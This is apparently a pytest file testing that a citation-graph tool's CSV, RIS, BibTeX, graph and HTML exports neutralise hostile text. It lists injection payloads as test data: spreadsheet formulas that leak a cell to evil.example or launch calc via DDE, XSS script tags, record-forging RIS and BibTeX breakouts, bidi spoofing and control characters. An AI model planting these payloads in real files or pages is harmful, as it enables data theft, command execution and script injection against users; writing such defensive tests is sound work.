"""Hostile text in every exported file is data: no formula a spreadsheet runs, no control or
bidi-override character, no line break that starts a record of its own (issue 8, safe files).

The corpus is GENERATED test data: one work per payload, with the payload in every text field
of the work (title, journal, abbreviation, abstract, volume, issue, pages, keywords, DOI) and of
an author of its own (id, name, family and given name, affiliation, institution). Every format
is written and read back by the library its users use: pandas for CSV, rispy for RIS,
bibtexparser for BibTeX, networkx for GEXF, GraphML and node-link JSON, json for VOSviewer.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import bibtexparser
import networkx as nx
import pandas as pd
import pytest
import rispy

from citegraph.export import FORMATS, csv_cell, export_graph, export_works, generate_html
from citegraph.model import Corpus
from citegraph.text import strip_controls
from citegraph.views import build_view, view_html
from tests.conftest import ROOT

pytestmark = pytest.mark.reliability

#: Hostile strings, each a whole field (so formula characters come first in a cell).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1 tab led",
    "\r=1+1 carriage led",
    "\n@SUM(1) newline led",
    "  =1+1 space led",
    "\u200b=1+1 zero width led",
    "\x00=1+1 nul led",
    "nul\x00byte inside",
    "right\u202eto left override gnp.exe",
    "\u2066isolate\u2069 and \u202aembedding\u202c and \u202bmore\u202c",
    "marks\u200e left\u200f right\u061c arabic",
    "zero\u200bwidth\u200cnon\u200djoiner",
    "Title\nTY  - JOUR\nTI  - forged record\nER  - ",
    "carriage\r\nER  - \r\nTY  - BOOK",
    "unbalanced } brace",
    "open { brace",
    "}, note = {forged",
    "@article{forged, title={x}}",
    "back\\slash \\end{document} \\input{/etc/passwd}",
    "math $x}@misc{evil,$ dollars",
    "link https://evil.example/}{ url",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "XML illegal \x01\x02\x0b\x0c\x1f end",
    "\ufffe\uffff nonchar",
    "lone \ud800 surrogate \udfff",
    "C1 \x85 next line \x9b csi \x80 pad",
    "DEL\x7f char",
    "line\u2028separator\u2029paragraph",
    "file sep \x1c group \x1d record \x1e",
    "\x1b[31mANSI escape\x1b[0m",
    "\ufeffbyte order mark",
    "\"double quotes\", 'single'; semi",
    "percent % amp & dollar $ hash # under _ tilde ~ caret ^",
    "ER  - ",
    "emoji \U0001f469\u200d\U0001f52c Umlaut \u00c4\u00d6\u00dc \u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    ":red[colour] ![img](http://evil.example/x.png)",
    "Very long " + "abcdefghij " * 5000 + " end",
    # One long word: affiliations' e-mail pattern once took 38 s on it (quadratic).
    "Longword " + "klmnopqrst" * 5000,
]

#: What no exported file may hold (written out here, not taken from the code under test):
#: C0 controls other than tab and newline (CR included: files use "\n"), DEL, C1, bidi marks,
#: embeddings, overrides and isolates, BOM, line/paragraph separators, U+FFFE/U+FFFF.
BAD = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
    "\u2028\u2029\ufeff\ufffe\uffff]"
)
#: Inside a RIS or BibTeX field not even a newline or a tab.
BAD_IN_LINE = re.compile(BAD.pattern[:-1] + "\t\n]")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
VIEWS = ("citation", "similarity", "coauthor")
GRAPH_FORMATS = ("gexf", "graphml", "cyjs", "json", "csv", "vosviewer", "html")


def _words(payload: str) -> list[str]:
    """The plain parts of a payload, which every format must keep."""
    return sorted(set(re.findall(r"[A-Za-z]{3,}", payload)))


@cache
def hostile_corpus() -> Corpus:
    """GENERATED: one work and one author per payload; a normal seed and a normal co-author."""
    works = [{"id": "W9000000000", "openalex_id": "W9000000000", "title": "Generated seed",
              "journal": "Generated Journal", "year": 2000, "is_seed": True,
              "sources": ["pubmed", "openalex"]}]  # fmt: skip
    authors = [{"id": "A9000000000", "name": "Gen Coauthor", "last_name": "Coauthor",
                "fore_name": "Gen"}]  # fmt: skip
    ships = [{"work_id": "W9000000000", "author_id": "A9000000000", "position": 1}]
    links = []
    for i, text in enumerate(PAYLOADS, 1):
        wid = f"W9{i:09d}"
        works.append({
            "id": wid, "openalex_id": wid, "pmid": f"90000{i:04d}", "doi": text, "title": text,
            "journal": text, "journal_abbrev": text, "abstract": text, "volume": text,
            "issue": text, "pages": text, "keywords": [text], "year": 2000 + i,
            "cited_by_count": i, "sources": ["pubmed", "openalex"], "pub_types": ["Review"],
        })  # fmt: skip
        authors.append({"id": text, "name": text, "last_name": text, "fore_name": text,
                        "affiliations": [text], "institutions": [text]})  # fmt: skip
        ships += [{"work_id": wid, "author_id": text, "position": 1, "name": text,
                   "affiliations": [text], "institutions": [text]},
                  {"work_id": wid, "author_id": "A9000000000", "position": 2}]  # fmt: skip
        links.append({"source": wid, "target": "W9000000000", "kind": "references",
                      "sources": ["openalex"]})  # fmt: skip
        if i > 1:
            links.append({"source": wid, "target": f"W9{i - 1:09d}", "kind": "references",
                          "sources": ["openalex"]})  # fmt: skip
    return Corpus.from_rows(works=works, authors=authors, authorships=ships, links=links)


@cache
def graph(view: str) -> nx.Graph:
    return build_view(hostile_corpus(), view)


def _no_bad(text: str, where: str) -> None:
    found = BAD.search(text)
    assert found is None, f"{where}: {found.group()!r} at {found.start()}"


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(value, list | tuple):
        for v in value:
            yield from _strings(v)


def _graph_strings(H: nx.Graph) -> Iterator[str]:
    yield from _strings(H.graph)
    for n, d in H.nodes(data=True):
        yield str(n)
        yield from _strings(d)
    for u, v, d in H.edges(data=True):
        yield from (str(u), str(v))
        yield from _strings(d)


@cache
def _libraries() -> tuple[str, ...]:
    """The scripts pyvis inlines (vis-network's polyfills hold a literal U+0085: code, not data)."""
    import pyvis

    lib = Path(pyvis.__file__).parent / "templates" / "lib"
    return tuple(f.read_text(encoding="utf-8") for f in sorted(lib.rglob("*.js")))


def _page_without_libraries(page: str) -> str:
    for script in _libraries():
        page = page.replace(script, "")
    return page


def _page_data(page: str) -> list[Any]:
    """The node and edge lists a page hands to vis-network (JSON: escapes hide characters
    from a look at the page's text, the browser decodes them)."""
    found = []
    for match in re.finditer(r"(?:nodes|edges) = new vis\.DataSet\(", page):
        found.append(json.JSONDecoder().raw_decode(page, match.end())[0])
    return found


def _assert_clean_page(page: str, where: str, *, skip: set[str] = frozenset()) -> None:
    _no_bad(_page_without_libraries(page), where)  # the legend and all other markup
    nodes, edges = _page_data(page)
    assert len(nodes) > len(PAYLOADS) // 2 and edges
    strings = list(_strings([nodes, edges]))
    for s in strings:
        _no_bad(s, where)
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    _assert_words_survive(" ".join(strings), where, skip=skip)
    legend = page[page.index('<div id="citegraph-legend"') :]
    assert legend.count("<div>") >= 2


def _assert_words_survive(text: str, where: str, *, skip: set[str] = frozenset()) -> None:
    for payload in PAYLOADS:
        for word in _words(payload):
            if payload.split()[0] in skip:
                continue
            assert word in text, f"{where}: {word!r} of {payload[:40]!r} lost"


def _assert_no_formula(table: pd.DataFrame, where: str) -> None:
    cells = [str(c) for c in [*table.columns, *table.to_numpy().ravel()] if isinstance(c, str)]
    assert cells
    for cell in cells:
        lead = cell.lstrip(" \u00a0\u200b\u200c\u200d\u2060\t\r\n")[:1]
        if cell[:1] in FORMULA or lead in FORMULA:
            assert NUMBER.match(cell), f"{where}: formula cell {cell[:60]!r}"


def _read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)


# ------------------------------------------------------------------------------ graph formats
@pytest.mark.parametrize("view", VIEWS)
@pytest.mark.parametrize("fmt", GRAPH_FORMATS)
def test_graph_export_reads_back_clean(view: str, fmt: str) -> None:
    G = graph(view)
    assert G.number_of_nodes() > len(PAYLOADS) // 2 and G.number_of_edges() > 0
    data = (
        generate_html(G).decode("utf-8") if fmt == "html" else export_graph(G, fmt)
    )  # fmt: skip
    where = f"{view}/{fmt}"
    if fmt == "csv":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            nodes_raw, edges_raw = archive.read("nodes.csv"), archive.read("edges.csv")
        _no_bad(nodes_raw.decode("utf-8") + edges_raw.decode("utf-8"), where)
        nodes, edges = _read_csv(nodes_raw), _read_csv(edges_raw)
        assert (len(nodes), len(edges)) == (G.number_of_nodes(), G.number_of_edges())
        assert set(edges["source"]) | set(edges["target"]) <= set(nodes["id"])
        _assert_no_formula(nodes, where)
        _assert_no_formula(edges, where)
        _assert_words_survive(" ".join(nodes.to_numpy().ravel()), where)
        return
    if fmt == "html":
        _assert_clean_page(data, where)
        return
    text = data.decode("utf-8")
    _no_bad(text, where)
    if fmt == "vosviewer":
        items = json.loads(text)["network"]["items"]
        assert len(items) == G.number_of_nodes()
        strings = list(_strings(items))
    else:
        reader = {
            "gexf": lambda: nx.read_gexf(io.BytesIO(data)),
            "graphml": lambda: nx.read_graphml(io.BytesIO(data)),
            "json": lambda: nx.node_link_graph(json.loads(text), edges="links"),
            "cyjs": lambda: nx.cytoscape_graph(json.loads(text)),
        }[fmt]
        H = reader()
        assert (H.number_of_nodes(), H.number_of_edges()) == (
            G.number_of_nodes(), G.number_of_edges())  # fmt: skip
        strings = list(_graph_strings(H))
    for s in strings:
        _no_bad(s, where)
    _assert_words_survive(" ".join(strings), where)


@pytest.mark.parametrize("view", VIEWS)
def test_page_html_is_clean(view: str) -> None:
    """The page the app shows and downloads (legend names the clusters) holds no control or
    bidi-override character either."""
    # Lone surrogates left out here: they break pandas' string columns in
    # `citegraph.analysis.cluster_table` (view_html's legend) before any file is written; the
    # snapshot loader and the sources must turn them away (reported, issue 8).
    corpus = hostile_corpus()
    keep = ~corpus.works["title"].map(lambda t: bool(re.search("[\ud800-\udfff]", str(t))))
    dropped = set(corpus.works.loc[~keep, "id"])
    assert len(dropped) == 1
    corpus = corpus.with_tables(
        works=corpus.works[keep],
        authorships=corpus.authorships[~corpus.authorships["work_id"].isin(dropped)],
        links=corpus.links[~corpus.links["source"].isin(dropped)],
    )
    page = view_html(corpus, build_view(corpus, view))
    _assert_clean_page(page, view, skip={"lone"})


# ------------------------------------------------------------------------------ works formats
def test_ris_has_one_record_per_work() -> None:
    n = len(hostile_corpus().works)
    text = export_works(hostile_corpus(), "ris").decode("utf-8")
    _no_bad(text, "ris")
    lines = text.splitlines()  # splits at every line break Python knows, U+2028 included
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in lines if line), "not a tag line"
    assert sum(line.startswith("TY  - ") for line in lines) == n
    assert sum(line.startswith("ER  - ") for line in lines) == n
    records = rispy.loads(text)
    assert len(records) == n
    for record in records:
        for s in _strings(record):
            assert not BAD_IN_LINE.search(s), s[:60]
    _assert_words_survive(" ".join(s for r in records for s in _strings(r)), "ris")


def _bibtex_entries_as_bibtex_counts(text: str) -> int:
    """Entries as BibTeX itself finds them: it counts every brace, escaped or not."""
    depth, entries, i = 0, 0, 0
    while i < len(text):
        ch = text[i]
        if depth == 0 and not ch.isspace():
            match = re.compile(r"@\w+\{").match(text, i)
            assert match, f"text outside an entry at {i}: {text[i : i + 40]!r}"
            entries += 1
            depth, i = 1, match.end()
            continue
        depth += (ch == "{") - (ch == "}")
        assert depth >= 0
        i += 1
    assert depth == 0
    return entries


def test_bibtex_has_one_entry_per_work() -> None:
    n = len(hostile_corpus().works)
    text = export_works(hostile_corpus(), "bibtex").decode("utf-8")
    _no_bad(text, "bibtex")
    library = bibtexparser.parse_string(text)
    assert (len(library.entries), len(library.failed_blocks)) == (n, 0)
    assert _bibtex_entries_as_bibtex_counts(text) == n
    for entry in library.entries:
        for field in entry.fields:
            assert not BAD_IN_LINE.search(field.value), field.value[:60]
            assert field.value.count("{") == field.value.count("}"), field.value[:60]
    _assert_words_survive(
        " ".join(f.value for e in library.entries for f in e.fields), "bibtex"
    )  # fmt: skip


def test_works_csv_neutralises_formulas() -> None:
    data = export_works(hostile_corpus(), "csv")
    _no_bad(data.decode("utf-8"), "works csv")
    table = _read_csv(data)
    assert len(table) == len(hostile_corpus().works)
    _assert_no_formula(table, "works csv")
    _assert_words_survive(" ".join(table.to_numpy().ravel()), "works csv")
    typed = pd.read_csv(io.BytesIO(data))
    assert pd.api.types.is_integer_dtype(typed["year"])  # numbers stay numbers


# ------------------------------------------------------------------------------ the rules
def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    G = nx.Graph()
    G.add_node("n1", label="-2+3", score=-3, ratio=-0.5, note="-3")
    G.add_node("n2", label="@SUM(1)", score=4, ratio=1.5, note="plain")
    with zipfile.ZipFile(io.BytesIO(export_graph(G, "csv"))) as archive:
        nodes = pd.read_csv(io.BytesIO(archive.read("nodes.csv")))
    assert nodes["label"].tolist() == ["'-2+3", "'@SUM(1)"]
    assert nodes["score"].tolist() == [-3, 4] and nodes["ratio"].tolist() == [-0.5, 1.5]
    assert nodes["note"].tolist() == ["-3", "plain"]
    assert [csv_cell(v) for v in (-3, 2.5, True, None)] == [-3, 2.5, True, None]


def test_strip_controls_covers_every_control_and_bidi_character() -> None:
    every = "".join(map(chr, range(0x00, 0xA0))) + "".join(map(chr, range(0x2000, 0x2070)))
    every += "\u061c\ufeff\ufffe\uffff\ud800\udfff"
    assert not BAD.search(strip_controls(every))
    assert not BAD_IN_LINE.search(strip_controls(every, one_line=True))
    # printable ASCII, zero-width space/joiners and the other spaces survive
    kept = strip_controls(every, one_line=True)
    assert "".join(map(chr, range(0x20, 0x7F))) in kept
    assert all(ch in kept for ch in "\u200b\u200c\u200d\u2009")


def test_page_tables_have_no_unsafe_csv_download() -> None:
    """Streamlit's own table download writes cells unneutralised; the page turns it off."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_payload_counts() -> None:
    """At least 30 payloads in every text field, each through every format."""
    assert len(PAYLOADS) >= 30
    assert len(FORMATS) == len(GRAPH_FORMATS)
    works = hostile_corpus().works
    assert works["title"].tolist()[1:] == PAYLOADS
